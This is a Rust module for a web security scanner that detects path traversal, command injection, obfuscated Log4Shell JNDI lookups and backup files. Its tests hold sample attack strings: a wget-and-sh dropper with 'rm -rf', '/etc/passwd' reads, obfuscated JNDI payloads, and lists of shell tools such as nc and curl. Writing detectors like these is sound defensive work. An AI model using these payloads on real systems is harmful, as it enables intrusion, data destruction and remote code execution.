//! Hand-written detectors for traversal, command injection, JNDI lookups and backup files.
//! Each works on decoded bytes and returns a rule id.

use super::text::{find_pair, starts_ci};

/// `..` as a path segment: preceded by start, `/` or `\`, followed by `/`, `\`, `;` (Tomcat
/// `..;/`) or the end. Any such segment in a path is an attack (browsers remove dot segments
/// before sending); in a query value it takes two, or one aimed at a known target, so a
/// relative `next=../account` link is not flagged.
pub fn traversal(s: &[u8], is_path: bool) -> Option<&'static str> {
    let mut count = 0;
    let mut aimed = false;
    let mut i = 0;
    while let Some(p) = find_pair(&s[i..], *b"..") {
        let at = i + p;
        let mut end = at + 2;
        // `....//` filter bypass: a longer run of dots still climbs.
        while end < s.len() && s[end] == b'.' {
            end += 1;
        }
        let before_ok = at == 0 || matches!(s[at - 1], b'/' | b'\\' | b'.' | b'=' | b' ');
        let after = s.get(end).copied();
        let after_ok = matches!(after, None | Some(b'/' | b'\\' | b';'));
        if before_ok && after_ok && (at == 0 || s[at - 1] != b'.' || after.is_some()) {
            count += 1;
            let rest = &s[(end + 1).min(s.len())..];
            if TARGETS.iter().any(|t| starts_ci(rest, t)) {
                aimed = true;
            }
        }
        i = end;
    }
    if count == 0 {
        return None;
    }
    if aimed {
        Some("traversal-dotdot-target")
    } else if is_path || count >= 2 {
        Some("traversal-dotdot")
    } else {
        None
    }
}

const TARGETS: [&[u8]; 12] = [
    b"etc",
    b"windows",
    b"winnt",
    b"boot.ini",
    b"win.ini",
    b"proc",
    b".ssh",
    b".env",
    b"web-inf",
    b"wp-config",
    b"var",
    b".git",
];

/// Commands an injected shell is told to run. Strong ones are flagged after any separator.
const STRONG: [&[u8]; 30] = [
    b"wget",
    b"curl",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"nc",
    b"ncat",
    b"netcat",
    b"telnet",
    b"tftp",
    b"busybox",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"powershell",
    b"cmd",
    b"chmod",
    b"nslookup",
    b"whoami",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"ping",
    b"rm",
    b"mkfifo",
    b"certutil",
];

/// Commands that are also common words: flagged only when what follows looks like an
/// argument list (`;ls -la`, `;cat /etc/passwd`, `;id`, `;sleep 5`) or inside `$( )`.
const WEAK: [&[u8]; 22] = [
    b"id",
    b"ls",
    b"cat",
    b"echo",
    b"sleep",
    b"cd",
    b"ps",
    b"pwd",
    b"dir",
    b"type",
    b"env",
    b"printenv",
    b"head",
    b"tail",
    b"kill",
    b"reboot",
    b"uptime",
    b"hostname",
    b"touch",
    b"sudo",
    b"su",
    b"base64",
];

pub fn cmdi(s: &[u8]) -> Option<&'static str> {
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        let (sub, next) = match b {
            b';' | b'|' | b'\n' | b'\r' | b'&' => (false, i + 1),
            b'`' => (true, i + 1),
            b'$' if s.get(i + 1) == Some(&b'(') => (true, i + 2),
            b'$' if starts_ci(&s[i + 1..], b"{ifs}") || starts_ci(&s[i + 1..], b"ifs$") => {
                return Some("cmdi-ifs");
            }
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = next;
        while j < s.len() && matches!(s[j], b' ' | b'|' | b'&' | b'\t' | b'{' | b'(') {
            j += 1;
        }
        let start = j;
        while j < s.len() && (s[j].is_ascii_alphanumeric() || matches!(s[j], b'/' | b'_' | b'.')) {
            j += 1;
        }
        let mut word = &s[start..j];
        // `/bin/sh`, `/usr/bin/wget`: the command is the last path part.
        if let Some(p) = crate::bytes::rfind(b'/', word) {
            if word[0] == b'/' {
                word = &word[p + 1..];
            }
        }
        let word_end = j;
        if !word.is_empty() && word.len() <= 12 {
            let is = |list: &[&[u8]]| list.iter().any(|c| c.eq_ignore_ascii_case(word));
            if is(&STRONG) {
                return Some(if sub {
                    "cmdi-substitution"
                } else {
                    "cmdi-chain"
                });
            }
            if is(&WEAK) {
                if sub {
                    return Some("cmdi-substitution");
                }
                let after = &s[word_end..];
                let ok = match after.first() {
                    None => b != b'&',
                    Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n') => true,
                    Some(b' ') => {
                        let a = after.iter().position(|&c| c != b' ').map(|p| after[p]);
                        matches!(a, Some(b'-' | b'/' | b'0'..=b'9' | b'$' | b'~' | b'.'))
                    }
                    _ => false,
                };
                if ok {
                    return Some("cmdi-chain");
                }
            }
        }
        i = next;
    }
    None
}

/// Log4Shell `${jndi:…}`, seeing through nested lookups (`${${lower:j}ndi:`,
/// `${${::-j}${::-n}di:`, `${${env:X:-j}ndi:`, `${j${k8s:k5:-ND}i:`): the lookup wrappers are
/// skipped and the letters they yield are matched as a stream.
pub fn jndi(s: &[u8]) -> bool {
    let Some(first) = find_pair(s, *b"${") else {
        return false;
    };
    const LOOKUPS: [&[u8]; 18] = [
        b"lower", b"upper", b"env", b"sys", b"date", b"k8s", b"main", b"ctx", b"docker", b"spring",
        b"web", b"log4j", b"bundle", b"java", b"marker", b"map", b"sd", b"base64",
    ];
    // The last five letters produced, to match `jndi:`.
    let mut win = [0u8; 5];
    let mut push = |c: u8| -> bool {
        win.copy_within(1.., 0);
        win[4] = c.to_ascii_lowercase();
        &win == b"jndi:"
    };
    let mut i = first;
    // Letters count only inside a lookup: `${HOME}/jndi:` is not one.
    let mut depth = 0u32;
    while i < s.len() {
        if s[i] == b'$' && s.get(i + 1) == Some(&b'{') {
            depth += 1;
            i += 2;
            let start = i;
            while i < s.len() && (s[i].is_ascii_alphanumeric() || s[i] == b'_') {
                i += 1;
            }
            let name = &s[start..i];
            if s.get(i) == Some(&b':') {
                if name.eq_ignore_ascii_case(b"jndi") {
                    return true;
                }
                if name.is_empty() || LOOKUPS.iter().any(|l| l.eq_ignore_ascii_case(name)) {
                    i += 1;
                    // `VAR:-default`: skip to the default.
                    let mut k = i;
                    while k < s.len()
                        && (s[k].is_ascii_alphanumeric() || matches!(s[k], b'_' | b'.' | b':'))
                    {
                        if s[k] == b':' && s.get(k + 1) == Some(&b'-') {
                            i = k + 2;
                            break;
                        }
                        k += 1;
                    }
                    if s.get(i) == Some(&b'-') && i > 0 && s[i - 1] == b':' {
                        i += 1;
                    }
                }
            } else {
                for &c in name {
                    if push(c) {
                        return true;
                    }
                }
            }
            continue;
        }
        let c = s[i];
        i += 1;
        if c == b'}' {
            depth = depth.saturating_sub(1);
            continue;
        }
        if depth == 0 || matches!(c, b'\'' | b'"') {
            continue;
        }
        // Dotless ı (U+0131) upper-cases to I: `${upper:ı}`.
        if c == 0xc4 && s.get(i) == Some(&0xb1) {
            i += 1;
            if push(b'i') {
                return true;
            }
            continue;
        }
        if push(c) {
            return true;
        }
    }
    false
}

/// Backup or editor copies left in the web root: `x.php.bak`, `index.php~`, `db.sql`,
/// `backup.zip`, `www.tar.gz`. Archives count only with a backup-looking name, since sites
/// serve real downloads as `.zip`.
pub fn backup_file(path: &[u8]) -> bool {
    let seg = match crate::bytes::rfind(b'/', path) {
        Some(p) => &path[p + 1..],
        None => path,
    };
    if seg.len() < 2 {
        return false;
    }
    if seg.ends_with(b"~") {
        return true;
    }
    let Some(dot) = crate::bytes::rfind(b'.', seg) else {
        return false;
    };
    let (base, ext) = (&seg[..dot], &seg[dot + 1..]);
    if base.is_empty() || ext.len() > 6 {
        return false;
    }
    let mut e = [0u8; 6];
    for (d, c) in e.iter_mut().zip(ext) {
        *d = c.to_ascii_lowercase();
    }
    let ends =
        |b: &[u8], x: &[u8]| b.len() > x.len() && b[b.len() - x.len()..].eq_ignore_ascii_case(x);
    match &e[..ext.len()] {
        b"bak" | b"old" | b"orig" | b"swp" | b"save" | b"sql" | b"dump" | b"backup" | b"bkp" => {
            true
        }
        // `db.sql.gz`, `www.tar.gz`, `backup.zip`: archives with a backup-looking name only,
        // since sites serve real downloads as `.zip`.
        b"gz" | b"zip" | b"bz2" | b"tgz" | b"rar" | b"7z" | b"tar" => {
            if ends(base, b".sql") {
                return true;
            }
            let base = if ends(base, b".tar") {
                &base[..base.len() - 4]
            } else {
                base
            };
            const NAMES: [&[u8]; 18] = [
                b"backup",
                b"backups",
                b"site",
                b"www",
                b"wwwroot",
                b"public_html",
                b"htdocs",
                b"db",
                b"database",
                b"dump",
                b"web",
                b"html",
                b"data",
                b"archive",
                b"bak",
                b"old",
                b"root",
                b"sql",
            ];
            NAMES.iter().any(|n| n.eq_ignore_ascii_case(base))
                || super::text::find_ci(base, b"backup").is_some()
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn traversal_cases() {
        assert!(traversal(b"/../../etc/passwd", true).is_some());
        assert!(traversal(b"/a/..\\..\\windows\\win.ini", true).is_some());
        assert!(traversal(b"/x/..;/manager", true).is_some());
        assert!(traversal(b"....//....//etc/passwd", false).is_some());
        assert!(traversal(b"../etc/passwd", false).is_some());
        assert_eq!(traversal(b"../account", false), None);
        assert_eq!(traversal(b"/docs/v1..2/notes", true), None);
        assert_eq!(traversal(b"Loading...", false), None);
        assert_eq!(traversal(b"/wait.../x", true), None);
    }

    #[test]
    fn cmdi_cases() {
        for s in [
            "cd /tmp;rm -rf *;wget a.b/jaws;sh /tmp/jaws",
            ";ping $(whoami).test.com",
            "x|id",
            "1;cat /etc/passwd",
            "`id`",
            "a;${IFS}cat",
            "127.0.0.1 && curl http://x",
            "x\nwget http://e/x",
        ] {
            assert!(cmdi(s.as_bytes()).is_some(), "{s}");
        }
        for s in [
            "color:red;font-size:12px",
            "hello; more info",
            "tea; cat lovers",
            "Tom & Jerry",
            "$(document).ready(fn)",
            "a | b",
            "fish & chips; id est",
        ] {
            assert_eq!(cmdi(s.as_bytes()), None, "{s}");
        }
    }

    #[test]
    fn jndi_cases() {
        for s in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
            "${${upper:J}NDI:dns://x}",
        ] {
            assert!(jndi(s.as_bytes()), "{s}");
        }
        for s in ["${HOME}/jndi:", "price ${5}", "jndi: talk", "${(#a=1)}"] {
            assert!(!jndi(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn backups() {
        for s in [
            "/wp-config.php.bak",
            "/index.php~",
            "/db.sql",
            "/backup.zip",
            "/www.tar.gz",
            "/site-backup-2020.tgz",
        ] {
            assert!(backup_file(s.as_bytes()), "{s}");
        }
        for s in [
            "/downloads/tool-1.2.zip",
            "/",
            "/index.html",
            "/release.tar.gz",
            "/old",
        ] {
            assert!(!backup_file(s.as_bytes()), "{s}");
        }
    }
}
